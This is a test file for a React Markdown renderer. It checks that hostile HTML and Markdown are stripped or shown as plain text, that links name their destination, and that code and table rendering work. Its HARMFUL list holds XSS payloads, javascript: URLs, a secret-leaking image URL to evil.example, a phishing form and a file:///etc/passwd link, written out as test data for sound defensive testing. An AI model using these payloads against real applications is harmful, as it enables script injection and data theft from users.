import { render, screen, within } from '@testing-library/react';
import { expect, it } from 'vitest';
import { Markdown } from './markdown.tsx';

const draw = (text: string, isGrowing = false): HTMLElement => render(<Markdown text={text} isGrowing={isGrowing} />).container;

const HARMFUL = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<a href="https://evil.example" onclick="alert(1)">press</a>',
  '![see](https://evil.example/?q=secret)',
  '![see](data:image/png;base64,AAAA)',
  '![see][ref]\n\n[ref]: https://evil.example/pixel.png',
  '<picture><source srcset="https://evil.example/a"></picture>',
  '[press](javascript:alert(1))',
  '[press](JaVaScRiPt:alert(1))',
  '[press](data:text/html;base64,PHNjcmlwdD4=)',
  '[press](vbscript:x)',
  '[press](file:///etc/passwd)',
  '[press](//evil.example)',
  '[press](/api/auth/logout)',
  '<iframe src="https://evil.example"></iframe>',
  '<style>@import url(https://evil.example)</style>',
  '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
  '<svg onload=alert(1)><use href="https://evil.example#a"/></svg>',
  '<!-- hidden -->',
  '<link rel="stylesheet" href="https://evil.example">',
  '<javascript:alert(1)>',
];

it.each(HARMFUL)('draws %s as nothing or as text', (text) => {
  for (const isGrowing of [false, true]) {
    const drawn = draw(text, isGrowing);
    const harmful =
      'script, style, img, picture, source, iframe, object, embed, form, input, button, svg, link, meta, a, base, video, audio';
    expect([...drawn.querySelectorAll(harmful)].map((element) => element.outerHTML)).toEqual([]);
    for (const element of drawn.querySelectorAll('*'))
      for (const name of element.getAttributeNames()) expect(name).not.toMatch(/^on|^src|^href|^style$|^action$/);
  }
});

it('shows HTML as the text that it is, since placeholders of commands look like it', () => {
  expect(draw('Use set interface <name> and <b>more</b>')).toHaveTextContent('Use set interface <name> and <b>more</b>');
});

it('says in place of a picture what it would have shown', () => {
  expect(draw('See ![the plan](https://evil.example/a.png) here')).toHaveTextContent('See the plan here');
});

it('opens links elsewhere and says where they lead', () => {
  draw('[your bank](https://evil.example/login?x=1) and https://plain.example/a');
  const [deceptive, plain] = screen.getAllByRole('link');
  expect(deceptive).toHaveAttribute('href', 'https://evil.example/login?x=1');
  expect(deceptive).toHaveAccessibleName('your bank opens in a new tab (evil.example)');
  expect(plain).toHaveAccessibleName('https://plain.example/a opens in a new tab');
  for (const link of [deceptive, plain]) {
    expect(link).toHaveAttribute('target', '_blank');
    expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow');
  }
});

it('draws code with a button to copy it, tables, lists and headings of one level', () => {
  const drawn = draw('# Big\n\n#### Small\n\n```\nset a\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n- [ ] open');
  expect(screen.getAllByRole('heading', { level: 3 }).map((heading) => heading.textContent)).toEqual(['Big', 'Small']);
  expect(screen.getByRole('group', { name: 'Code' })).toHaveTextContent('set a');
  expect(screen.getByRole('button', { name: 'Copy code' })).toBeInTheDocument();
  expect(within(screen.getByRole('group', { name: 'Table' })).getAllByRole('cell')).toHaveLength(2);
  expect(drawn).toHaveTextContent('☑ done');
});

it('draws a growing text as it will be at the end', () => {
  const text = 'One **two**\n\n- a\n- b\n\n```\nset x\n\nset y\n```\n\nEnd';
  const whole = draw(text).innerHTML.replace(/\s+/g, ' ');
  expect(draw(text, true).innerHTML.replace(/\s+/g, ' ').replaceAll('> <', '><')).toBe(whole.replaceAll('> <', '><'));
});
